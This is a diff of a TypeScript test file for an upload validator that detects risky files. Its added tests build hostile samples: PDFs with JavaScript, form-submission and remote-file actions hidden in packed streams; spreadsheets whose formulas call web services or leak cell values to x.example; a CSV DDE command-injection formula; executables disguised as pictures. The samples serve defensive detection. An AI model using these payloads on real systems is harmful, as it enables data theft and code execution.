@@ -1,6 +1,7 @@
 import { readFileSync } from "node:fs";
 import { deflateSync } from "node:zlib";
 import { workbookOf, zipOf } from "../../../lib/roster-file/workbook/test-workbook.ts";
+import { measureCpu } from "../../../lib/testing/time-ratio.ts";
 import { heading } from "../../receipts/sheet/pdf-head.ts";
 import { beginSheet, endSheet, writeText } from "../../receipts/sheet/pdf-page.ts";
 import { findKind } from "./find-kind.ts";
@@ -19,6 +20,15 @@ const packed = (objects: string, type = "/Type /ObjStm"): Uint8Array => {
   const head = `%PDF-1.7\n1 0 obj\n<< ${type} /N 1 /First 4 /Filter /FlateDecode /Length ${data.length} >>\nstream\r\n`;
   return Buffer.concat([text(head), data, text("\nendstream\nendobj\n%%EOF\n")]);
 };
+/** Its objects packed in other ways: by a dictionary and an encoding of one's own. */
+const packedAs = (dictionary: string, data: Uint8Array = deflateSync(Buffer.from(`1 0 ${script}`)), after = "\n") =>
+  Buffer.concat([
+    text(`%PDF-1.7\n1 0 obj\n<<${dictionary}/N 1/First 4/Length ${data.length}>>\nstream${after}`),
+    data,
+    text("\nendstream\nendobj\n%%EOF\n"),
+  ]);
+const flate = "/Filter/FlateDecode";
+const hex = Buffer.from(`${Buffer.from(`1 0 << /S /JavaScript >>`).toString("hex")}>`);
 const script = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
 const png = signed("89504e470d0a1a0a0000000d49484452", "____IDAT____IEND");
 const jpeg = Buffer.from("ffd8ffe000044a46ffffc000040800ffda00027878ffd90000", "hex");
@@ -29,6 +39,12 @@ const rels = (type: string) =>
     "xl/worksheets/_rels/s.xml.rels",
     `<Relationship Type="http://x/relationships/${type}" Target="../media/a.bin"/>`,
   );
+const external = (type: string, target: string) =>
+  part(
+    "xl/a/_rels/a.xml.rels",
+    `<Relationship Id="r1" Target="${target}" TargetMode="External" Type="http://x/relationships/${type}"/></Relationships>`,
+  );
+const formula = (words: string) => part("xl/worksheets/sheet1.xml", `<c><f>${words}</f></c>`);
 const plain = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
 const macros = "application/vnd.ms-excel.sheet.macroEnabled.main+xml";
 
@@ -36,14 +52,15 @@ it.each([
   ["PDF", pdf],
   ["PDF", text("%PDF-1.7\n<</OpenAction [3 0 R /Fit] /URI (http://x.example/JS)>>\n%%EOF\n")],
   ["PDF", packed("1 0 << /Type /Catalog /Launcher true /EFG 1 >>")],
-  // As in a PDF with a password.
-  ["PDF", text("%PDF-1.7\n<</Type/ObjStm>>\nstream\nnot packed\nendstream\n%%EOF\n")],
+  ["PDF", text("%PDF-1.7\n1 0 obj\n<</First 2 0 R/Title (see /JS and /EF, obj)>>\nendobj\n%%EOF\n")],
+  ["PDF", packed("1 0 << /A << /S /URI /URI (http://x.example/JS) >> >>")],
   ["PNG", png],
   ["JPEG", jpeg],
   ["XLSX", xlsx],
   ["CSV", text("month,hours\r\nMay,168\r\n")],
   ["CSV", text("month;hours\nMay;<168\n")],
-  ["CSV", text("ID;Payroll number;Hours\nC;Smith;5\nF;K. Evans;7\nE;Lee;8\n")],
+  ["CSV", text("No.;Payroll number;Hours\nC;Smith;5\nF;K. Evans;7\nE;Lee;8\n")],
+  ["CSV", text("id;Hours\n5;7\n")],
   ["CSV", text("Hours <head count>,<body lotion>\n1,2\n")],
   ["CSV", Buffer.from("﻿Name\tHours\nZoë\t5\n", "utf16le")],
   ["CSV", Buffer.from([...text("name,hours\nZo"), 0xeb, ...text(",5\n")])],
@@ -72,6 +89,8 @@ it.each([
   ["a program", signed("4d5a9000")],
   ["macros in a text", text("ID;PWXL;N;E\r\nO;E\r\nNN;NAuto_open;ER1C1\r\nC;X1;Y1;K0;EEXEC(1,2)\r\nE\r\n")],
   ["an old spreadsheet in a text", text('ID;PSCALC3\nB;Y1;X2\nC;Y1;X1;K"Name"\nC;X2;K5\nE\n')],
+  ["macros in a text in small letters", text("ID;P\r\nO;E\r\nc;y1;x1;eEXEC(1)\r\n")],
+  ["a table that programs take for an old spreadsheet", text("ID;Payroll number;Hours\nC;Smith;5\n")],
   ["an old workbook", signed("d0cf11e0a1b11ae1")],
   ["a GIF", text("GIF89a,,,")],
   ["a PDF with a script", text(`%PDF-1.7\n1 0 obj\n${script}\nendobj\n%%EOF\n`)],
@@ -85,6 +104,21 @@ it.each([
   ["a PDF with a file inside that has no type", text("%PDF-1.7\n<</Names <</EmbeddedFiles 5 0 R>>>>\n%%EOF\n")],
   ["a PDF with a file inside an annotation", packed("1 0 <</Type/Filespec/F(a.exe)/EF <</F 5 0 R>>>>")],
   ["a PDF whose objects unpack to too much", packed(" ".repeat(17 * 1024 * 1024))],
+  ["a PDF with packed objects behind a comment", packedAs(`/Type/ObjStm % stream here\n${flate}`)],
+  ["a PDF with packed objects behind a text", packedAs(`/Type/ObjStm/X(\\) stream )${flate}`)],
+  ["a PDF with packed objects behind a word", packedAs(`/Type/ObjStm stream\n endobj ${flate}`)],
+  ["a PDF with packed objects that have no type", packedAs(flate)],
+  [
+    "a PDF with packed objects that have no space",
+    Buffer.from(packedAs(flate).toString("latin1").replace("0 obj", "0obj"), "latin1"),
+  ],
+  ["a PDF with a script by a comment", text("%PDF-1.7\n1 0 obj<</JS %c\n6 0 R>>endobj\n%%EOF\n")],
+  ["a PDF with a script by a comment in packed objects", packed("1 0 << /JS %c\n6 0 R >>")],
+  ["a PDF with a script in a list", text("%PDF-1.7\n1 0 obj[<</J#53%c\n6 0 R>>]endobj\n%%EOF\n")],
+  ["a PDF that sends a form", text("%PDF-1.7\n<</S/SubmitForm/F(http://x.example)>>\n%%EOF\n")],
+  ["a PDF that opens another", text("%PDF-1.7\n<</S/GoToR/F(//x.example/a.pdf)>>\n%%EOF\n")],
+  ["a PDF that opens one inside", packed("1 0 <</S/GoToE/T<</R/C>>>>")],
+  ["a PDF that reads a file", packed("1 0 <</S/ImportData/F(a.fdf)>>")],
   ["a table with a formula", text("a,b\n1,=cmd|' /C calc'!A0\n")],
   ["an incomplete PDF", text("%PDF-1.7\n1 0 obj\n")],
   ["an incomplete PNG", signed("89504e470d0a1a0a0000000d49484452")],
@@ -117,6 +151,31 @@ it.each([
     "a sheet in an encoding that hides it",
     zipOf([sheet, workbook, { name: "xl/a.xml", bytes: Buffer.from("\ufeff<ddeLink />", "utf16le") }]),
   ],
+  ["a workbook that loads another", zipOf([sheet, workbook, external("externalLinkPath", "file:////x.example/a")])],
+  ["a workbook that loads a picture", zipOf([sheet, workbook, external("image", "http://x.example/a>b.png")])],
+  [
+    "a link that pretends to be for a reader",
+    zipOf([sheet, workbook, external("image", "x?Type='/relationships/hyperlink'")]),
+  ],
+  ["a relation in two pieces", zipOf([sheet, workbook, external("image", `${" ".repeat(70_000)}http://x.example`)])],
+  ["a workbook that asks a site", zipOf([sheet, workbook, formula("_xlfn.WEBSERVICE(A1)")])],
+  ["a workbook that asks a site in letters apart", zipOf([sheet, workbook, formula("WEB<!-- -->SERVICE(A1)")])],
+  ["a workbook that asks a site in numbered letters", zipOf([sheet, workbook, formula("&#x57;EBSERVICE(A1)")])],
+  ["a workbook that asks a site by a filter", zipOf([sheet, workbook, formula("filterxml(A1,B1)")])],
+  ["a link made of cells", zipOf([sheet, workbook, formula('HYPERLINK("http://x.example?"&amp;A1,"Pay")')])],
+  [
+    "a link made of cells by a function",
+    zipOf([sheet, workbook, formula('HYPERLINK(CONCAT("http://x.example?",A1))')]),
+  ],
+  [
+    "a link made of cells between two pieces",
+    zipOf([sheet, workbook, part("xl/a.xml", `${" ".repeat(65_520)}<f>HYPERLINK(&quot;a&quot;&amp;A1)</f>`)]),
+  ],
+  ["a workbook with connections", zipOf([sheet, workbook, part("xl/connections.xml", "<connections/>")])],
+  ["connections under another name", zipOf([sheet, workbook, part("xl/a.xml"), rels("connections")])],
+  ["a workbook with a query", zipOf([sheet, workbook, part("customXml/item1.xml", '<DataMashup xmlns="x">')])],
+  ["a program among pictures", zipOf([sheet, workbook, part("xl/media/a.exe")])],
+  ["a program in a picture", zipOf([sheet, workbook, part("xl/media/a.png", "MZ\u0090")])],
   ["a workbook with a program beside it", zipOf([sheet, workbook, part("evil.exe")])],
   ["a workbook with a path", zipOf([sheet, workbook, { name: "../../evil", bytes: Buffer.from("x") }])],
   ["a workbook that unpacks to a gigabyte", zipOf([sheet, { ...workbook, declared: 1_000_000_000 }])],
@@ -127,6 +186,23 @@ it.each([
   expect((await findKind(bytes, "file.txt")).kind).toBeNull();
 });
 
+it.each([
+  ["in hex", packedAs("/Filter/ASCIIHexDecode", hex)],
+  ["by two encodings", packedAs("/Filter[/ASCII85Decode/FlateDecode]")],
+  ["twice", packedAs("/Filter[/FlateDecode/FlateDecode]")],
+  ["by an encoding that another object names", packedAs("/Filter 9 0 R")],
+  ["under two filters", packedAs(`/Filter/ASCIIHexDecode${flate}`)],
+  ["under the short name of a filter", packedAs(`/F/AHx${flate}`)],
+  ["not at all", packedAs("", text("1 0 null"))],
+  ["with a predictor", packedAs(`${flate}/DecodeParms<</Predictor 12/Columns 10>>`)],
+  ["with more in the line before them", packedAs(flate, undefined, " x\n")],
+  ["with an error in them", packedAs(flate, deflateSync(Buffer.from("1 0 null")).fill(255, 4))],
+  ["with a password", text("%PDF-1.7\ntrailer<</Root 1 0 R/Encrypt 5 0 R>>\n%%EOF\n")],
+  ["in more objects than a file can have", text(`%PDF-1.7\n${"1 0 obj<<".repeat(20_000)}\n%%EOF\n`)],
+])("doesn't take a PDF that it can't check, packed %s", async (_how, bytes) => {
+  expect(await findKind(bytes, "a.pdf")).toEqual({ kind: null, runs: "UNCHECKED" });
+});
+
 it("takes what spreadsheets and the portal make", async () => {
   const made = [true, false].map(async (compress) => {
     const page = beginSheet("Work history", new Date("2026-07-10T12:00:00Z"), compress);
@@ -134,11 +210,35 @@ it("takes what spreadsheets and the portal make", async () => {
     return endSheet(page, "Page 1");
   });
   for (const pdfBytes of await Promise.all(made)) expect(await findKind(pdfBytes, "a.pdf")).toEqual({ kind: "PDF" });
-  const linked = [sheet, workbook, part("xl/drawings/drawing1.xml", "<a>ddeLink and oleLink</a>"), rels("hyperlink")];
+  const printer = part("xl/printerSettings/printerSettings1.bin", "PDF\u0000a<!");
+  const drawing = part("xl/drawings/drawing1.xml", "<a>ddeLink and oleLink</a>");
+  const linked = [sheet, workbook, printer, drawing, rels("hyperlink")];
   expect(await findKind(zipOf(linked), "a.xlsx")).toEqual({ kind: "XLSX" });
+  for (const address of ['"http://x.example?a&amp;b","Pay"', "A1", "&quot;#Sheet2!A1&quot;,B1", "Sheet2!$A$1"])
+    expect(
+      await findKind(
+        zipOf([sheet, workbook, formula(`HYPERLINK(${address})`), external("hyperlink", "http://x.example?a=1")]),
+        "a.xlsx",
+      ),
+    ).toEqual({ kind: "XLSX" });
   expect(await findKind(await workbookOf([["Name"], ["Zoë"]]), "a.xlsx")).toEqual({ kind: "XLSX" });
   const pictures = "docs/pictures/dashboard-pension-1280.png";
   expect(await findKind(readFileSync(pictures), "a.png")).toEqual({ kind: "PNG" });
+});
+
+it.each([
+  "1 0 obj<<",
+  "1 0 obj(",
+  "/JS %a ",
+  "((((",
+  "1 0 obj<</First 1/Filter/FlateDecode>>stream\nx\u009c",
+  "1 0 obj<</First",
+])("searches five times as much of %j in no more than twenty times the time", async (piece) => {
+  const whole = (size: number) => Buffer.from(`%PDF-1.7\n${piece.repeat(size / piece.length)}\n%%EOF\n`, "latin1");
+  const [small, large] = [whole(2e6), whole(1e7)];
+  await findKind(small, "a.pdf");
+  const { seconds } = await measureCpu(() => findKind(small, "a.pdf"));
+  expect((await measureCpu(() => findKind(large, "a.pdf"))).seconds).toBeLessThan(0.2 + 20 * seconds);
 });
 
 describe("the name of a file", () => {
